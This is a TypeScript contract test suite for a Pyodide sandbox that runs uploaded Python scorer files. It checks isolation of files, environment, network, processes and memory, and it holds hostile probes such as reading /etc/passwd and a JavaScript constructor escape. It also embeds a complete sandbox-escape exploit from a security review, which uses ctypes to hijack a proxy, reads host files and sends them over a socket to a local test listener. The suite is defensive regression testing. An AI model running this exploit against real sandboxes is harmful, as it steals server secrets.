// The CodeSandbox contract: what any sandbox that runs uploaded scorer files must do, and must not let
// them do. Interpreters are slow to start: the suite shares one sandbox, and starts few of them; the case
// that runs past the time limit has one of its own, whose limit is short, so as not to wait out the long one.
import type { ScorerArguments } from '@tracelight/domain';
import type { CodeSandbox, CodeSource } from '@tracelight/ports';
import * as E from 'fp-ts/Either';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';

export interface CodeSandboxContractOptions {
  /** The time limit for one call of the sandbox the cases share: each of their calls finishes within it, a first import of a large module included. */
  readonly timeLimitMs: number;
  /**
   * The time limit of the sandbox of the case that loops: it waits this long. Its other calls are trivial
   * (`return 2`) and the limit counts from when a ready interpreter takes a call, so they need milliseconds of it.
   */
  readonly shortTimeLimitMs: number;
}

const ARGS: ScorerArguments = {
  index: 'rec-1',
  node_input: 'What is 2+2?',
  node_output: 'It is 4.',
  node_name: 'chat',
  node_type: 'llm',
  node_id: 'rec-1',
  tools: [{ name: 'calculator', parameters: { type: 'object' } }],
  dataset_variables: { target: '4' },
};

let keys = 0;
/** A file of `tenant`'s, under a key of its own (so no compiled form is shared between cases by mistake). */
export const scorerFile = (code: string, tenant = 'tenant-a'): CodeSource => ({ key: `contract-${++keys}`, fileName: 'scorer.py', code, tenant });

/** A scorer_fn whose body is `body` (indented here), taking the contract's keyword arguments. */
export const scorerBody = (body: string): string =>
  `def scorer_fn(*, index, node_input, node_output, **kwargs):\n${body
    .split('\n')
    .map((l) => `    ${l}`)
    .join('\n')}\n`;

/** `make(timeLimitMs)`: a new sandbox whose calls may each run that long. */
export const describeCodeSandboxContract = (name: string, make: (timeLimitMs: number) => CodeSandbox, options: CodeSandboxContractOptions): void => {
  describe(`CodeSandbox (${name})`, () => {
    let sandbox: CodeSandbox;
    beforeAll(() => {
      sandbox = make(options.timeLimitMs);
    });
    afterAll(async () => {
      await sandbox.close();
    });
    const scored = async (body: string, tenant?: string) => sandbox.score(scorerFile(scorerBody(body), tenant), ARGS)();
    /** What a scorer returned, which must be a str. */
    const text = async (body: string, tenant?: string): Promise<string> => {
      const r = await scored(body, tenant);
      if (E.isLeft(r)) throw new Error(`the scorer failed: ${JSON.stringify(r.left)}`);
      if (r.right.type !== 'str') throw new Error(`the scorer returned ${JSON.stringify(r.right)}`);
      return r.right.value;
    };

    it('reads a file\'s hooks: score_type, scoreable_node_types_fn, chain_aggregation; null where it has none', async () => {
      const full = await sandbox.inspect(
        scorerFile(
          `${scorerBody('return len(node_output)')}\ndef score_type():\n    return int\n\ndef scoreable_node_types_fn():\n    return ['llm', 'tool']\n\nchain_aggregation = 'sum'\n\ndef aggregator_fn(*, scores):\n    return {}\n`,
        ),
      )();
      expect(full).toEqual(E.right({ scorerFn: { kind: 'function', line: 1, takesKwargs: true }, scoreType: 'int', scoreableNodeTypes: ['llm', 'tool'], chainAggregation: 'sum' }));
      const bare = await sandbox.inspect(scorerFile(scorerBody('return 1.0')))();
      expect(bare).toEqual(E.right({ scorerFn: { kind: 'function', line: 1, takesKwargs: true }, scoreType: null, scoreableNodeTypes: null, chainAggregation: null }));
    });

    it('tells a file without scorer_fn, one whose scorer_fn is not a function, and one whose scorer_fn takes no **kwargs', async () => {
      expect(await sandbox.inspect(scorerFile('def score(x):\n    return 1\n'))()).toMatchObject(E.right({ scorerFn: { kind: 'missing' } }));
      expect(await sandbox.inspect(scorerFile('scorer_fn = 3\n'))()).toMatchObject(E.right({ scorerFn: { kind: 'not_callable' } }));
      expect(await sandbox.inspect(scorerFile('\n\ndef scorer_fn(*, node_output):\n    return 1\n'))()).toMatchObject(
        E.right({ scorerFn: { kind: 'function', line: 3, takesKwargs: false } }),
      );
    });

    it('names the line of a syntax error, and of an exception the file raises as it loads', async () => {
      const syntax = await sandbox.inspect(scorerFile('import re\n\ndef scorer_fn(**kwargs)\n    return 1\n'))();
      expect(syntax).toEqual(E.left({ kind: 'syntax', line: 3, message: expect.stringContaining('SyntaxError') }));
      const raised = await sandbox.inspect(scorerFile('x = 1\ny = x / 0\n'))();
      expect(raised).toEqual(
        E.left({ kind: 'exception', line: 2, message: 'ZeroDivisionError: division by zero', traceback: expect.stringContaining('line 2'), errorType: 'ZeroDivisionError' }),
      );
    });

    it('calls scorer_fn with the record\'s arguments', async () => {
      const seen = JSON.parse(
        await text('import json\nreturn json.dumps(dict(index=index, node_input=node_input, node_output=node_output, **kwargs), sort_keys=True)'),
      ) as unknown;
      expect(seen).toEqual({ ...ARGS });
    });

    it('says what scorer_fn returned: None, bool, int, float, str, or another type by name', async () => {
      expect(await scored('return None')).toEqual(E.right({ type: 'none' }));
      expect(await scored('return "4" in node_output')).toEqual(E.right({ type: 'bool', value: true }));
      expect(await scored('return len(node_output)')).toEqual(E.right({ type: 'int', value: 8 }));
      expect(await scored('return 0.25')).toEqual(E.right({ type: 'float', value: 0.25 }));
      expect(await scored('return node_output.upper()')).toEqual(E.right({ type: 'str', value: 'IT IS 4.' }));
      expect(await scored('return [1, 2]')).toEqual(E.right({ type: 'other', typeName: 'list' }));
      const nan = await scored('return float("nan")');
      expect(E.isRight(nan) && nan.right.type === 'float' && Number.isNaN(nan.right.value)).toBe(true);
    });

    it('answers an exception with its message, its traceback from the scorer\'s frames, and the line it was raised at', async () => {
      const r = await sandbox.score(scorerFile('def helper(x):\n    raise ValueError(f"bad {x}")\n\ndef scorer_fn(**kwargs):\n    return helper(kwargs["index"])\n'), ARGS)();
      expect(r).toEqual(E.left({ kind: 'exception', message: 'ValueError: bad rec-1', line: 2, traceback: expect.stringContaining('ValueError: bad rec-1'), errorType: 'ValueError' }));
      if (E.isLeft(r) && r.left.kind === 'exception') {
        expect(r.left.traceback).toMatch(/line 5, in scorer_fn[\s\S]*line 2, in helper/);
        // The file's own lines are quoted, as Python quotes a file's.
        expect(r.left.traceback).toContain('raise ValueError(f"bad {x}")');
        expect(r.left.traceback).not.toContain('tracelight-sandbox');
      }
    });

    it('runs each call in a module of its own: what a call leaves in the file\'s globals, the next does not see', async () => {
      const file = scorerFile('seen = []\n\ndef scorer_fn(**kwargs):\n    seen.append(kwargs["index"])\n    return len(seen)\n');
      expect(await sandbox.score(file, ARGS)()).toEqual(E.right({ type: 'int', value: 1 }));
      expect(await sandbox.score(file, { ...ARGS, index: 'rec-2' })()).toEqual(E.right({ type: 'int', value: 1 }));
    });

    it('shows no host file: /etc/passwd is not there, nor the server\'s directory', async () => {
      expect(await text("try:\n    return open('/etc/passwd').read()\nexcept OSError as e:\n    return type(e).__name__")).toBe('FileNotFoundError');
      expect(await text("import os\nreturn ' '.join(sorted(os.listdir('/')))")).not.toMatch(/etc|usr|work|root|node_modules/);
    });

    it('has no environment variables', async () => {
      expect(await text('import os\nreturn repr(dict(os.environ))')).toBe('{}');
      expect(await text('import posix\nreturn repr(posix.environ)')).toBe('{}');
    });

    it('has no network: a socket connection and an HTTP request are refused', async () => {
      expect(await text("import socket\ntry:\n    socket.create_connection(('127.0.0.1', 9), timeout=1)\n    return 'connected'\nexcept OSError as e:\n    return type(e).__name__")).toBe(
        'PermissionError',
      );
      expect(await text("import urllib.request\ntry:\n    return urllib.request.urlopen('http://127.0.0.1:9/').read().decode()\nexcept Exception as e:\n    return type(e).__name__")).toBe(
        'URLError',
      );
    });

    it('runs no process: os.system answers that the command could not run', async () => {
      expect(await text("import os\nreturn str(os.system('echo hi > /dev/null'))")).toBe(String(127 << 8));
    });

    it('has the standard library and nothing to install more with', async () => {
      expect(await text('import difflib, statistics, unicodedata\nreturn str(round(difflib.SequenceMatcher(None, "abc", "abd").ratio(), 2))')).toBe('0.67');
      for (const module of ['micropip', 'numpy', 'requests'])
        expect(await text(`try:\n    import ${module}\n    return 'imported'\nexcept ImportError as e:\n    return type(e).__name__`)).toBe('ModuleNotFoundError');
    });

    it('gives Python no JavaScript object to reach the host with', async () => {
      for (const module of ['js', 'pyodide_js'])
        expect(await text(`try:\n    import ${module}\n    return 'imported'\nexcept ImportError as e:\n    return type(e).__name__`)).toBe('ModuleNotFoundError');
      // A JavaScript value made from Python's does not lead to code made from text (Function, then process).
      expect(
        await text("try:\n    from pyodide.ffi import to_js\n    o = to_js({'a': 1})\n    return repr(o.constructor.constructor('return process')())\nexcept Exception as e:\n    return 'refused: ' + str(e)"),
      ).toMatch(/^refused/);
    });

    it('keeps owners apart: what one owner\'s scorer leaves in its interpreter, another\'s does not find', async () => {
      expect(await text("import builtins\nbuiltins.left_behind = node_output\nreturn 'left'", 'tenant-a')).toBe('left');
      expect(await text("import builtins\nreturn repr(getattr(builtins, 'left_behind', None))", 'tenant-b')).toBe('None');
      expect(await text("import builtins\nreturn repr(getattr(builtins, 'left_behind', None))", 'tenant-a')).toBe(repr(ARGS.node_output));
    });

    it('keeps a scorer that rewrites a leaked JavaScript proxy with ctypes (H1) from the host\'s files and the network', async () => {
      // The reviewer's exploit, as uploaded: it read the server's secret key and sent it over TCP.
      const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'tracelight-contract-')));
      const secret = path.join(dir, 'secret.key');
      fs.writeFileSync(secret, 'the-server-secret-key');
      const received: string[] = [];
      const listener = net.createServer((s) => {
        received.push('connected');
        s.on('data', (d: Buffer) => received.push(d.toString('utf8')));
        s.on('error', () => undefined);
      });
      await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
      const port = (listener.address() as net.AddressInfo).port;
      try {
        const uploaded = await sandbox.inspect(scorerFile(sandboxEscapeExploit([secret], port), 'tenant-h1'))();
        // Whatever the upload answered (the sandbox may refuse the file), what the exploit got is asked for
        // in the same interpreter, a few times (its steps ran on the runtime's promises, after the upload).
        let stolen = '';
        for (let i = 0; i < 8 && !/secret|ERR/.test(stolen); i++) {
          await new Promise((resolve) => setTimeout(resolve, 250));
          stolen = await text("import builtins\nreturn repr(getattr(builtins, '_stolen', None))", 'tenant-h1');
        }
        expect(JSON.stringify(uploaded)).not.toContain('the-server-secret-key');
        expect(stolen).not.toContain('the-server-secret-key');
        expect(received).toEqual([]);
      } finally {
        listener.close();
        fs.rmSync(dir, { recursive: true, force: true });
      }
    });

    it('gives Python no way to write memory or reach the JavaScript proxies it was left: ctypes, the package loader, the event loop', async () => {
      for (const module of ['ctypes', '_ctypes', 'pyodide._package_loader', 'pyodide.webloop', '_pyodide_core'])
        expect(await text(`try:\n    import ${module}\n    return 'imported'\nexcept ImportError as e:\n    return type(e).__name__`)).toBe('ModuleNotFoundError');
      expect(await text("try:\n    from pyodide.ffi import create_proxy\n    return 'imported'\nexcept ImportError as e:\n    return type(e).__name__")).toBe('ImportError');
      // _ctypes loaded around the import statement: its memory access still refused.
      expect(
        await text(
          "import importlib\ntry:\n    m = importlib.import_module('_ctypes')\n    class U(m._SimpleCData):\n        _type_ = 'I'\n    U.from_address(id(m))\n    return 'read'\nexcept Exception as e:\n    return type(e).__name__",
        ),
      ).toMatch(/^(ModuleNotFoundError|PermissionError)$/);
    });

    it('lets no code run on after its call answered (M1): a callback scheduled to spin does not take the next call\'s time', async () => {
      const spin = 'import pyodide.webloop as wl\nfrom pyodide.ffi import create_proxy\ndef spin(*a):\n    while True: pass\nwl.scheduleCallback(create_proxy(spin), 10)\ndef scorer_fn(**kw): return 1\n';
      await sandbox.inspect(scorerFile(spin, 'tenant-m1'))();
      const asyncio = scorerBody('import asyncio\nasync def spin():\n    while True: pass\ntry:\n    asyncio.ensure_future(spin())\nexcept Exception:\n    pass\nreturn 1');
      expect(await sandbox.score(scorerFile(asyncio, 'tenant-m1'), ARGS)()).toEqual(E.right({ type: 'int', value: 1 }));
      expect(await scored('return 2', 'tenant-m1')).toEqual(E.right({ type: 'int', value: 2 }));
    });

    it('carries no str value longer than 4096 characters out of the sandbox (M2): its length says it', async () => {
      expect(await scored("return 'é' * 4096")).toEqual(E.right({ type: 'str', value: 'é'.repeat(4096) }));
      expect(await scored("return 'x' * 50_000_000")).toEqual(E.right({ type: 'str_too_long', length: 50_000_000 }));
    });

    it('bounds what it says of a scorer (M3, L2): a type\'s name, an exception\'s message and traceback, and the type alone as a name', async () => {
      const other = await scored("return type('Q' * 5_000_000, (), {})()");
      expect(E.isRight(other) && other.right.type === 'other' && other.right.typeName.length).toBeLessThanOrEqual(80);
      const raised = await scored("raise ValueError('bad record\\n' + node_output + '\\n' + 'y' * 5_000_000)");
      if (E.isRight(raised) || raised.left.kind !== 'exception') throw new Error(`expected an exception: ${JSON.stringify(raised).slice(0, 300)}`);
      expect(raised.left.errorType).toBe('ValueError');
      expect(raised.left.message.length).toBeLessThanOrEqual(2_000);
      expect(raised.left.traceback.length).toBeLessThanOrEqual(8_000);
      const named = await scored("class Bad(Exception): pass\nBad.__qualname__ = 'x y ' + node_output\nraise Bad('z')");
      expect(named).toMatchObject(E.left({ kind: 'exception', errorType: null }));
    });

    it('ends a call that allocates past its memory with a MemoryError, the interpreter going on', async () => {
      const r = await scored('x = bytearray(1024 ** 3)\nreturn len(x)');
      expect(r).toMatchObject(E.left({ kind: 'exception', message: 'MemoryError' }));
      expect(await scored('return 1')).toEqual(E.right({ type: 'int', value: 1 }));
    });

  });

  describe(`CodeSandbox (${name}) past its time limit`, () => {
    let sandbox: CodeSandbox;
    beforeAll(() => {
      sandbox = make(options.shortTimeLimitMs);
    });
    afterAll(async () => {
      await sandbox.close();
    });
    const scored = async (body: string) => sandbox.score(scorerFile(scorerBody(body)), ARGS)();

    it('ends a call that runs past the time limit, and the next call runs in a new interpreter', async () => {
      const other = scored('return 2');
      expect(await scored('while True:\n    pass')).toEqual(E.left({ kind: 'timeout', limitMs: options.shortTimeLimitMs }));
      expect(await other).toEqual(E.right({ type: 'int', value: 2 }));
      expect(await scored('return 3')).toEqual(E.right({ type: 'int', value: 3 }));
    });
  });
};

/**
 * The review's H1 exploit, as a scorer file: it retargets a JsProxy Python was left holding to the
 * runtime's API object (with ctypes), reads `files` through the API's loadBinaryFile and sends what it
 * read to 127.0.0.1:`port` through the API's sockets; what it got is left in `builtins._stolen`. On the
 * code it was found on, the upload alone ran it and the listener received the server's secret key.
 */
export const sandboxEscapeExploit = (files: ReadonlyArray<string>, port: number): string => String.raw`import builtins, ctypes, socket
import pyodide._package_loader as pl
from pyodide.ffi import create_proxy
st = builtins.__dict__.setdefault('_stolen', {'log': [], 'data': b''})
lp = pl.loadedPackages
cell = ctypes.c_uint32.from_address(id(lp) + 36)
API = None
# 67108875: the runtime API object's ref in the build the exploit was found on; else the refs near it.
for ref in [67108875] + list(range(0x4000000, 0x4000000 + 400)):
    cell.value = ref
    try:
        lp.loadBinaryFile
        lp.initializeNodeSockFS
        API = lp
        break
    except Exception:
        pass
def got(name):
    def f(buf):
        st['data'] += b'== ' + name.encode() + b'\n' + bytes(buf.to_py()) + b'\n'
    return f
def err(e):
    st['log'].append('ERR ' + str(e))
def send(_=None):
    API._nodeSock.send(st['fd'], b'stolen:' + st['data']); st['s'].close()
def connect(_=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); st['s'] = s; st['fd'] = s.fileno()
    API._nodeSock.connect(s.fileno(), '127.0.0.1', ${port}).then(create_proxy(send)).catch(create_proxy(err))
if API is not None:
    p = None
    for path in ${JSON.stringify(files)}:
        read = (lambda path: lambda _=None: API.loadBinaryFile(path).then(create_proxy(got(path))).catch(create_proxy(err)))(path)
        p = read() if p is None else p.then(create_proxy(read))
    p.then(create_proxy(lambda _: API.initializeNodeSockFS().then(create_proxy(connect)).catch(create_proxy(err))))
def scorer_fn(**kw): return 1
`;

const repr = (s: string): string => `'${s.replace(/\\/g, '\\\\').replace(/'/g, "\\'")}'`;
